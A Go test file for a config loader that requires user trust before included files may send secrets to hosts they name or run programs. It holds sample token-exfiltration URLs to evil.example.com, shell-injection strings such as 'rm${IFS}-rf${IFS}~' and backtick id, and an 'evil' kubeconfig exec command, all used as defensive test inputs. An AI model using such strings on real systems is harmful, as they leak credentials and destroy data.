package config_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/firstpage-oncall/firstpage/config"
	"github.com/firstpage-oncall/firstpage/sources"
	"github.com/firstpage-oncall/firstpage/sources/all"
)

// team loads a configuration that includes one file of this text.
func team(t *testing.T, text string, env map[string]string, opts ...config.Option) (*config.Config, string, error) {
	t.Helper()
	dir := tree(t, map[string]string{
		"config.yaml": "include: [team.yaml]", "team.yaml": text,
		"secret": "s3cret", "ca.pem": "not looked at", "token.sh": "#!/bin/sh\necho t\n",
	})
	c, err := config.Load([]string{filepath.Join(dir, "config.yaml")}, kinds(), func(n string) string { return env[n] }, opts...)
	return c, dir, err
}

// An included file must not be able to send what is the user's to an address
// that it names itself.
func TestSecretsOfTheUserNeedTrust(t *testing.T) {
	t.Parallel()
	env := map[string]string{"TOKEN": "s3cret", "HOST": "h.example.com", "OTHER": "o"}
	server := func(s string) string {
		return "clusters: [{name: a, prometheus: {url: 'https://p.example.com/x', " + s + "}}]"
	}
	for name, tc := range map[string]struct{ yaml, sends, to string }{
		"password_file": {server("http: {basic_auth: {username: u, password_file: secret}}"), "DIR/secret", "https://p.example.com"},
		"username_file": {server("http: {basic_auth: {username_file: secret, password: p}}"), "DIR/secret", "https://p.example.com"},
		"credentials":   {server("http: {authorization: {credentials: '${TOKEN}'}}"), "$TOKEN", "https://p.example.com"},
		"whole":         {server("http: {authorization: {credentials: $TOKEN}}"), "$TOKEN", "https://p.example.com"},
		"cred file":     {server("http: {authorization: {credentials_file: secret}}"), "DIR/secret", "https://p.example.com"},
		"header secret": {server("http: {http_headers: {X-A: {secrets: ['a${TOKEN}b']}}}"), "$TOKEN", "https://p.example.com"},
		"header file":   {server("http: {http_headers: {X-A: {files: [secret]}}}"), "DIR/secret", "https://p.example.com"},
		"client key":    {server("http: {tls_config: {cert_file: ca.pem, key_file: secret}}"), "DIR/ca.pem, DIR/secret", "https://p.example.com"},
		"oauth2": {server("http: {oauth2: {client_id: c, client_secret_file: secret, token_url: 'https://sso.example.com/t'}}"),
			"DIR/secret", "https://p.example.com, https://sso.example.com"},
		"proxy": {server("http: {proxy_url: 'http://me:${TOKEN}@proxy.example.com:3128'}"), "$TOKEN", "http://proxy.example.com:3128, https://p.example.com"},
		"two":   {server("http: {basic_auth: {username: u, password: '${TOKEN}${OTHER}'}}"), "$TOKEN, $OTHER", "https://p.example.com"},
		"query": {"changes: [{kind: events, url: 'https://evil.example.com/?t=${TOKEN}'}]", "$TOKEN", "https://evil.example.com"},
		"user":  {"clusters: [{name: a, prometheus: {url: 'https://u:${TOKEN}@p.example.com'}}]", "$TOKEN", "https://p.example.com"},
		"host":  {"clusters: [{name: a, prometheus: {url: 'https://${HOST}/'}}]", "$HOST", "https://${HOST}"},
		"alertmanager": {"clusters: [{name: a, prometheus: {url: 'https://p'}, alertmanager: {url: 'https://am', http: {authorization: {credentials: '${TOKEN}'}}}}]",
			"$TOKEN", "https://am"},
		"runbooks":         {"runbooks: {hosts: [{host: 'git.example.com:8443', http: {authorization: {credentials_file: secret}}}]}", "DIR/secret", "git.example.com:8443"},
		"runbooks, scheme": {"runbooks: {hosts: [{host: 'http://wiki.example.com', http: {basic_auth: {username: u, password: '${TOKEN}'}}}]}", "$TOKEN", "http://wiki.example.com"},
		"anchored": {"clusters: [{name: a, prometheus: {url: 'https://p', http: &h {authorization: {credentials: '${TOKEN}'}}}}, {name: b, prometheus: {url: 'https://q', http: *h}}]",
			"$TOKEN", "https://p"},
		"named":  {"changes: [{kind: events, url: 'https://e.example.com', token_env: TOKEN}]", "$TOKEN", "https://e.example.com"},
		"option": {"changes: [{kind: events, url: 'https://e.example.com', token: '${TOKEN}'}]", "$TOKEN", "https://e.example.com"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c, dir, err := team(t, tc.yaml, env)
			p := c.Pending()
			if err == nil || len(p) == 0 || !c.OnlyPending() {
				t.Fatalf("loads: %v, pending %+v", err, p)
			}
			if got := strings.ReplaceAll(strings.Join(p[0].Sends, ", "), dir, "DIR"); got != tc.sends {
				t.Errorf("sends %s, want %s", got, tc.sends)
			}
			if got := strings.Join(p[0].To, ", "); got != tc.to {
				t.Errorf("to %s, want %s", got, tc.to)
			}
			if strings.Contains(err.Error(), "s3cret") || !strings.Contains(err.Error(), "not trusted yet") {
				t.Errorf("%v", err)
			}
			known := map[string]bool{}
			for _, g := range p {
				known[g.Hash] = true
			}
			c, err = config.Load(c.Files[:1], kinds(), func(n string) string { return env[n] }, config.Trusting(func(h string) bool { return known[h] }))
			if err != nil || len(c.Pending()) != 0 || c.OnlyPending() {
				t.Errorf("trusted, and yet: %v", err)
			}
			if diff := cmp.Diff(p, c.Trusted()); diff != "" {
				t.Error(diff)
			}
		})
	}
	if name := "two servers with one anchor"; true {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c, _, _ := team(t, "clusters: [{name: a, prometheus: {url: 'https://p', http: &h {authorization: {credentials: '${TOKEN}'}}}}, {name: b, prometheus: {url: 'https://q', http: *h}}]", env)
			if p := c.Pending(); len(p) != 2 || p[0].Hash == p[1].Hash || p[1].To[0] != "https://q" {
				t.Errorf("%+v", p)
			}
		})
	}
}

// A token in the place of a variable's name is not repeated.
func TestNamedVariable(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"TOKEN": "", "NO_SUCH": "token_env: the environment variable NO_SUCH is not set",
		"ghp_s3cret": "no such environment variable", "glpat-s3cret": "no such environment variable", "$TOKEN": "without $",
	} {
		dir := tree(t, map[string]string{"config.yaml": "changes: [{kind: events, token_env: '" + name + "'}]"})
		_, err := config.Load([]string{filepath.Join(dir, "config.yaml")}, kinds(), environment(map[string]string{"TOKEN": "t"}))
		if want == "" && err != nil || want != "" && (err == nil || !strings.Contains(err.Error(), want) || strings.Contains(err.Error(), "s3cret")) {
			t.Errorf("%s: %v, want %q", name, err, want)
		}
	}
}

// The tokens of forges need trust, and so does the program that prints one.
// Without them an included file may name what it likes.
func TestForgesNeedTrust(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct{ yaml, want string }{
		"command": {"{kind: github, repos: [acme/a], url: 'https://evil.example.com/api/v3', token_command: [gh, auth, token]}", "runs gh auth token for https://evil.example.com"},
		"env":     {"{kind: gitlab, projects: [acme/a: b], url: 'https://evil.example.com', token_env: TOKEN}", "sends $TOKEN to https://evil.example.com"},
		"file":    {"{kind: gitlab, projects: [acme/a], token_file: secret}", "sends DIR/secret"},
		"proxy":   {"{kind: github, repos: [acme/a], token_env: TOKEN, http: {proxy_url: 'http://evil.example.com'}}", "sends $TOKEN to http://evil.example.com"},
		"none":    {"{kind: github, repos: [acme/a], url: 'https://github.example.com/api/v3'}", ""},
	} {
		dir := tree(t, map[string]string{"config.yaml": "include: [team.yaml]", "team.yaml": "changes: [" + tc.yaml + "]", "secret": ""})
		c, err := config.Load([]string{filepath.Join(dir, "config.yaml")}, all.Kinds(), environment(map[string]string{"TOKEN": "s3cret"}))
		var got []string
		for _, g := range c.Pending() {
			got = append(got, strings.ReplaceAll(g.String(), dir, "DIR"))
		}
		if strings.Join(got, "; ") != tc.want || (tc.want == "") != (err == nil) {
			t.Errorf("%s: pending %q, want %q; %v", name, got, tc.want, err)
		}
	}
}

// What belongs to the included file, or stays on this machine, needs no trust.
func TestWhatNeedsNoTrust(t *testing.T) {
	t.Parallel()
	env := map[string]string{"TOKEN": "s3cret", "DIR": "."}
	for name, text := range map[string]string{
		"its own secret":     "clusters: [{name: a, prometheus: {url: 'https://p', http: {authorization: {credentials: teams}}}}]",
		"an authority":       "clusters: [{name: a, prometheus: {url: 'https://p', http: {tls_config: {ca_file: ca.pem}}}}]",
		"a file of events":   "changes: [{kind: events, path: $DIR/secret}]",
		"no variable":        "clusters: [{name: a, prometheus: {url: 'https://p', http: {authorization: {credentials: 'a$TOKEN'}}}}]",
		"an escaped one":     "clusters: [{name: a, prometheus: {url: 'https://p', http: {authorization: {credentials: 'a$${TOKEN}'}}}}]",
		"a checkout":         "runbooks: {checkouts: [{path: $DIR}]}",
		"a name like it":     "clusters: [{name: '${TOKEN}', prometheus: {url: 'https://p'}}]",
		"the value of a map": "clusters: [{name: a, prometheus: {url: 'https://p', http: {http_headers: {X: {values: ['${TOKEN}']}}}}}]",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c, _, err := team(t, text, env)
			if err != nil || len(c.Pending()) != 0 {
				t.Errorf("%v, pending %+v", err, c.Pending())
			}
			if len(c.Clusters) > 0 && strings.Contains(c.Clusters[0].Name, "s3cret") {
				t.Error("a name was expanded")
			}
		})
	}
	dir := tree(t, map[string]string{"config.yaml": "clusters: [{name: a, prometheus: {url: 'https://${TOKEN}', token_command: [date]}}]"})
	if c, err := config.Load([]string{filepath.Join(dir, "config.yaml")}, kinds(), func(n string) string { return env[n] }); err != nil || len(c.Pending()) > 0 {
		t.Errorf("the user's own file: %v", err)
	}
}

// Trust is in exactly what was shown: what would change where a secret goes,
// or what runs, asks again; the secret itself and how long to wait do not.
func TestWhatAsksAgain(t *testing.T) {
	t.Parallel()
	const text = "clusters: [{name: a, prometheus: {url: 'https://p.example.com', http: {authorization: {credentials: '${TOKEN}'}}, token_command: [date, -u], timeout: 5s}}]"
	text2 := strings.Replace(text, "http: {authorization: {credentials: '${TOKEN}'}}, ", "", 1) // both are not allowed for the web client, but for the loader
	hash := func(text, token string) string {
		t.Helper()
		c, _, _ := team(t, text, map[string]string{"TOKEN": token})
		var all []string
		for _, g := range c.Pending() {
			all = append(all, g.Hash)
		}
		if len(all) == 0 {
			t.Fatalf("nothing pending in %s", text)
		}
		return strings.Join(all, " ")
	}
	for _, base := range []string{text, text2} {
		first := hash(base, "one")
		for from, to := range map[string]string{
			"'${TOKEN}'": "'${TOKEN}x'", "https://p.example.com": "https://q.example.com", "https://": "http://", "date": "dat",
			"-u": "-d", "timeout: 5s": "http: {tls_config: {insecure_skip_verify: true}}", "example.com'": "example.com/other'",
			"-u]": "-u, '']",
		} {
			if strings.Contains(base, "http: {auth") && strings.HasPrefix(to, "http: {tls") || !strings.Contains(base, from) {
				continue
			}
			if hash(strings.Replace(base, from, to, 1), "one") == first {
				t.Errorf("%s became %s and nobody is asked", from, to)
			}
		}
		for _, same := range []string{strings.Replace(base, "5s", "6s", 1), "clusters: [{name: z, prometheus: {url: 'http://z'}}, " + strings.TrimPrefix(base, "clusters: ["),
			"# a comment\n" + strings.Replace(base, "name: a", "name: renamed", 1)} {
			if hash(same, "one") != first {
				t.Errorf("asks again for %s", same)
			}
		}
		if hash(base, "two") != first {
			t.Error("the secret itself is part of the hash")
		}
	}
}

func TestWrongFilesAreNotOnlyPending(t *testing.T) {
	t.Parallel()
	c, _, err := team(t, "them: dark\nchanges: [{kind: events, command: [date]}]", nil)
	if err == nil || c.OnlyPending() || len(c.Pending()) != 1 {
		t.Errorf("%v %+v", err, c.Pending())
	}
}

func TestGrantsAreShownClean(t *testing.T) {
	t.Parallel()
	c, _, _ := team(t, `changes: [{kind: events, command: [sh, -c, "printf '\x1b[2J' --token=s3cret\nrm", "\u202e"]}]`, nil)
	g := c.Pending()[0]
	for _, s := range append(g.Shown(), g.String()) {
		if strings.ContainsAny(s, "\x1b\n\u202e") || strings.Contains(s, "s3cret") {
			t.Errorf("%q", s)
		}
	}
	c, _, _ = team(t, `changes: [{kind: events, command: [sh, -c, "x token=$(rm${IFS}-rf${IFS}~) curl https://a`+"`id`"+`@b"]}]`, nil)
	if s := strings.Join(c.Pending()[0].Shown(), " "); !strings.Contains(s, "$(rm${IFS}-rf") || !strings.Contains(s, "`id`") {
		t.Errorf("a mask hides what would run: %s", s)
	}
	if len(g.Shown()) != 4 || !strings.Contains(g.Shown()[2], "rm") {
		t.Errorf("%q", g.Shown())
	}
}

// A kubeconfig names programs that kubectl starts: one that an included file
// brings is a command, and is asked about again when it has changed.
func TestKubeconfigNeedsTrust(t *testing.T) {
	t.Parallel()
	type options struct {
		Kubeconfig string   `yaml:"kubeconfig" check:"kubeconfig" doc:"Which cluster."`
		Command    []string `yaml:"command" doc:"The program."`
	}
	kube := []sources.ChangeKind{{Name: "kube", Options: func() any { return &options{Command: []string{"kubectl"}} }}}
	dir := tree(t, map[string]string{
		"config.yaml": "include: [team.yaml]", "team.yaml": "changes: [{kind: kube, kubeconfig: k.yaml}]", "k.yaml": "users: []", "own.yaml": "changes: [{kind: kube, kubeconfig: k.yaml}]",
	})
	load := func(file string, opts ...config.Option) (*config.Config, error) {
		return config.Load([]string{filepath.Join(dir, file)}, kube, func(string) string { return "" }, opts...)
	}
	c, err := load("config.yaml")
	if err == nil || len(c.Pending()) != 1 || !c.OnlyPending() {
		t.Fatalf("loads: %v, pending %+v", err, c.Pending())
	}
	g := c.Pending()[0]
	if got := g.String(); got != "runs kubectl --kubeconfig "+filepath.Join(dir, "k.yaml") {
		t.Error(got)
	}
	trust := config.Trusting(func(h string) bool { return h == g.Hash })
	if _, err := load("config.yaml", trust); err != nil {
		t.Errorf("trusted, and yet: %v", err)
	}
	if err := os.WriteFile(filepath.Join(dir, "k.yaml"), []byte("users: [{name: u, user: {exec: {command: evil}}}]"), 0o600); err != nil {
		t.Fatal(err)
	}
	if c, err := load("config.yaml", trust); err == nil || len(c.Pending()) != 1 {
		t.Errorf("the kubeconfig names another program and nobody is asked: %v", err)
	}
	if _, err := load("own.yaml"); err != nil {
		t.Errorf("the user's own file: %v", err)
	}
}
